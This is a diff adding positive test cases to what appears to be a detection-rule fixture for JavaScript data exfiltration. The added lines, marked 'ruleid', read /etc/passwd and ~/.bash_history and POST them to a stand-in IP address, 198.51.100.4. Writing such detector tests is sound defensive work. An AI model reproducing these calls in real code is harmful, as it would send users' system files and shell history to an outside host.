@@ -40,3 +40,8 @@ fetch('https://api.example.com/v1', { headers: { Authorization: `Bearer ${proces
 axios.post('https://api.example.com/log', { home: process.env.HOME, cwd: process.cwd() });
 // ok: javascript.net.exfiltrate
 fetch('https://api.example.com/pkg', { body: fs.readFileSync('package.json') });
+const passwd = fs.readFileSync('/etc/passwd');
+// ruleid: javascript.net.exfiltrate
+fetch('http://198.51.100.4/submit', { method: 'POST', body: passwd });
+// ruleid: javascript.net.exfiltrate
+axios.post('http://198.51.100.4/h', fs.readFileSync(`${os.homedir()}/.bash_history`, 'utf8'));
